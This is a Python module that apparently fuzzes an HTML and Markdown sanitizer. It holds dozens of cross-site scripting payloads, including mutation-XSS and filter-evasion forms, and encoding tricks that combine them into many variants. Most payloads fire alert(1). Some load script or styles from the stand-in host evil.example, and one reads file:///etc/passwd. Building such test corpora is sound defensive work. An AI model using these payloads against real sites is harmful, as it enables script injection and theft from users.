"""Payloads of our own making: what is known to run somewhere, disguised and set into what a message, a name or an article may hold.

The forms are those of OWASP's filter-evasion sheet and of the mutation attacks on cleaners (a parser and a browser that read the same
text differently): written from the descriptions, no list copied.
"""

import random
from collections.abc import Callable, Iterator
from urllib.parse import quote

# What would run, were it markup. `alert` and its kin are what the page watches.
CORES = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>tap</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"/></svg>',
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">tap</maction></math>',
    '<math href="javascript:alert(1)">tap</math>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<img src=x onerror=parent.alert(1)>"></iframe>',
    "<base href=//evil.example/>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href="//evil.example/x.css">',
    "<style>@import '//evil.example/x.css';</style>",
    '<div style="background:url(//evil.example/x.png)">x</div>',
    "<div style=animation-name:x onanimationstart=alert(1)>x</div>",
    "<a href=javascript:alert(1)>tap</a>",
    '<a href="data:text/html,<script>alert(1)</script>">tap</a>',
    '<a href="vbscript:msgbox(1)">tap</a>',
    "<button formaction=javascript:alert(1)>tap</button>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<x onpointerenter=alert(1) style=position:fixed;inset:0>x</x>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='alert(1)' x='",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
)  # fmt: skip
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java&#x0A;script:alert(1)",
    "&#106;avascript&colon;alert(1)",
    "&#x6A&#x61&#x76&#x61script:alert(1)",
    "javascript&#58;alert(1)",
    "javascript&Tab;:alert(1)",
    "jav%61script:alert(1)",
    "javascript://%0aalert(1)",
    "javascript:/*--></title>*/alert(1)",
    "vbscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1) xmlns='http://www.w3.org/2000/svg'/>",
    "DATA:text/html,<script>alert(1)</script>",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "//evil.example/<script>",
    'https://evil.example/"onmouseover="alert(1)',
    "https://evil.example/'><img src=x onerror=alert(1)>",
    "ｊavascript:alert(1)",
    "\u202ejavascript:alert(1)",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
)
# Where Markdown lets an address or a text stand.
AROUND_ADDRESS = (
    "[tap]({})", "[tap](<{}>)", '[tap]({} "title")', "![x]({})", "<{}>", "[tap][r]\n\n[r]: {}", "[tap][r]\n\n[r]: <{}> 'title'", "[![x]({0})]({0})",
    "[tap](\n{}\n)", "**[tap]({})**", "> [tap]({})", "- [tap]({})", "| a |\n|---|\n| [tap]({}) |", "# [tap]({})", "[ta[p](x)]({})", '<a href="{}">tap</a>',
    "<a href='{}'>tap</a>", "<a href={}>tap</a>", '<svg><a href="{}">tap</a></svg>', '<area href="{}">', '<form action="{}"><button>tap</button></form>',
)  # fmt: skip
AROUND_TEXT = (
    "{}", "`{}`", "``` \n{}\n```", "```{}\nx\n```", "~~~\n{}\n~~~", "    {}", "<!-- {} -->", "<!--> {} <!-- -->", "<!--{}", "[{}](https://shop.example)",
    "![{}](https://shop.example/x.png)", '[x](https://shop.example "{}")', "> {}", "- {}\n  - {}", "| {} |\n|---|\n| {} |", "# {}", "**{}**", "~~{}~~",
    "\\{}", "<p>{}</p>", "<b title='{}'>x</b>", '<b title="{}">x</b>', "<pre><code>{}</code></pre>", "<![CDATA[{}]]>", "<?xml {} ?>", "<!DOCTYPE {}>",
    "x [1] {}", "[1]({})", "{}\n\n{}", "<svg><desc>{}</desc></svg>", "<math><annotation-xml encoding='text/html'>{}</annotation-xml></math>", "<svg><style>{}</style></svg>",
    "<noscript>{}</noscript>", "<textarea>{}</textarea>", "<title>{}</title>", "<xmp>{}</xmp>", "<table><tr>{}</tr></table>", "<select>{}</select>",
)  # fmt: skip


def _mixed_case(text: str, dice: random.Random) -> str:
    return "".join(c.upper() if dice.random() < 0.5 else c.lower() for c in text)  # noqa: PLR2004 - a coin


def _as_entities(text: str, dice: random.Random) -> str:
    form = dice.choice(("&#{0};", "&#x{0:x};", "&#x{0:X}", "&#{0:07d}"))
    return "".join(form.format(ord(c)) for c in text)


def _spaced(text: str, dice: random.Random) -> str:
    return text.replace(" ", dice.choice(("/", "\t", "\n", "\x0c", "\u00a0", "  ", "\r\n", "/**/")))


def _strewn(text: str, dice: random.Random) -> str:
    at = dice.randrange(len(text))
    return (
        text[:at]
        + dice.choice(
            ("\x00", "\u200b", "\u00ad", "\ufeff", "\u2028", "<!-- -->", "\\", "<", "\u202e", "%00")
        )
        + text[at:]
    )


def _doubled(text: str, _: random.Random) -> str:
    return text.replace("script", "scr<script>ipt").replace("onerror", "ononerrorerror")


def _unclosed(text: str, _: random.Random) -> str:
    return text.removesuffix(">")


def _wide(text: str, dice: random.Random) -> str:
    """Full-width look-alikes, which a normaliser might turn into markup."""
    which = dice.choice(("<>", "<>\"'=", "()"))
    return "".join(chr(ord(c) + 0xFEE0) if c in which else c for c in text)


DISGUISES: tuple[Callable[[str, random.Random], str], ...] = (
    lambda text, _: text,
    _mixed_case,
    _as_entities,
    _spaced,
    _strewn,
    _doubled,
    _unclosed,
    _wide,
    lambda text, _: quote(text),
    lambda text, _: quote(quote(text)),
    lambda text, _: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text, _: text.replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
    lambda text, _: text.replace("<", "\\u003c").replace("alert", "\\u0061lert"),
    lambda text, _: text.replace("alert(1)", "alert`1`"),
    lambda text, _: text.replace("alert(1)", "top['al'+'ert'](1)"),
    lambda text, _: text.replace("=", " = ").replace("<", "< "),
)


def mutations(many: int, seed: int = 1) -> Iterator[str]:
    """So many different payloads, the same for the same seed: each core as it is, then disguises in surroundings."""
    dice, made = random.Random(seed), set[str]()
    plain = iter([*CORES, *(around.format(ADDRESSES[0]) for around in AROUND_ADDRESS)])
    while len(made) < many:
        text = next(plain, None) or _one(dice)
        if text.strip() and text not in made:
            made.add(text)
            yield text


def _one(dice: random.Random) -> str:
    if dice.random() < 0.3:  # noqa: PLR2004 - a third are addresses, of which there are fewer forms
        return _set_into(dice.choice(AROUND_ADDRESS), dice.choice(DISGUISES)(dice.choice(ADDRESSES), dice))
    text = dice.choice(CORES)
    for _ in range(dice.choice((1, 1, 2))):
        text = dice.choice(DISGUISES)(text, dice)
    for _ in range(dice.choice((1, 1, 2))):
        text = _set_into(dice.choice(AROUND_TEXT), text)
    return text


def _set_into(around: str, text: str) -> str:
    return around.replace("{0}", "{}").replace("{}", text)
